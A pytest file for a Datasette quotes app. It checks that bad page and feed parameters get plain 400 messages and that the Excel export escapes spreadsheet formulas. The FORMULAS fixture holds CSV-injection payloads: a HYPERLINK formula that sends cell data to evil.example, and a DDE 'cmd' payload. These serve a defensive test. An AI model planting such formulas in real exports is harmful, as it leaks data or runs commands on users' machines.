"""Hand-made addresses with bad parameters answer 400 with a sentence, never a 500 or a
traceback, through datasette.client on the sample database."""

from __future__ import annotations

import asyncio

import pytest

from conftest_publish import sample_in
from quotes import publish


@pytest.fixture(scope="module")
def ds(tmp_path_factory):
    return publish.make_datasette(sample_in(tmp_path_factory, "bad-input")["path"])


@pytest.mark.parametrize("page", ["%C2%B2", "%D9%A3", "1" * 5000, "0", "1.5", "+2", "%201"])
def test_a_search_page_number_that_is_not_ascii_digits_is_a_400(ds, page):
    """'²' passed str.isdigit() and failed int(): a 500."""
    response = asyncio.run(ds.client.get(f"/-/search?q=Ryabkov&page={page}"))
    assert response.status_code == 400
    assert "page must be a whole number from 1 to 10,000" in response.text and "Traceback" not in response.text


@pytest.mark.parametrize("path, words", [
    ("/quotes/search_feed.atom?match=AND", "cannot be read"),
    ("/quotes/search_feed.atom?match=%22", "cannot be read"),
    ("/quotes/search_feed.atom?match=", "needs a search"),
    ("/quotes/search_feed.atom", "needs a search"),
    ("/quotes/speaker_feed.atom?speaker=", "needs a speaker id"),
])
def test_a_feed_with_a_bad_search_says_what_to_do_in_plain_text(ds, path, words):
    """Once datasette-atom's 'SQL query must return columns atom_title, ...' in an HTML page."""
    response = asyncio.run(ds.client.get(path))
    assert response.status_code == 400
    assert response.headers["content-type"].startswith("text/plain")
    assert words in response.text and "atom_title" not in response.text


def test_a_good_feed_still_answers(ds):
    response = asyncio.run(ds.client.get('/quotes/search_feed.atom?match=%22Ryabkov%22'))
    assert response.status_code == 200 and "<entry>" in response.text


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1, "click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
            "\t=1+1"]


def test_the_excel_download_keeps_formulas_from_archives_as_text(tmp_path_factory):
    import csv
    import io
    import sqlite3

    sample = sample_in(tmp_path_factory, "formulas")
    conn = sqlite3.connect(sample["path"])
    article_id = sample["articles"]["hostile"]
    conn.executemany("insert into quotes (id, article_id, text, start, end, said_on, source) values (?, ?, ?, ?, ?, ?, ?)",
                     [(f"{article_id}:{i}-{i + 1}", article_id, text, i, i + 1, "2016-10-01", "=cmd")
                      for i, text in enumerate(FORMULAS)])
    conn.commit()
    conn.close()
    ds = publish.make_datasette(sample["path"])
    response = asyncio.run(ds.client.get(f"/quotes/quotes.excel?article_id={article_id}&_size=max"))
    assert response.status_code == 200
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(response.text.lstrip("\ufeff")))}
    for i, text in enumerate(FORMULAS):
        row = rows[f"{article_id}:{i}-{i + 1}"]
        assert row["text"] == "'" + text and row["source"] == "'=cmd"
    assert all(not value.startswith(("=", "+", "-", "@", "\t")) for row in rows.values() for value in row.values())
    assert rows[f"{article_id}:0-1"]["said_on"] == "2016-10-01"  # other cells as they are
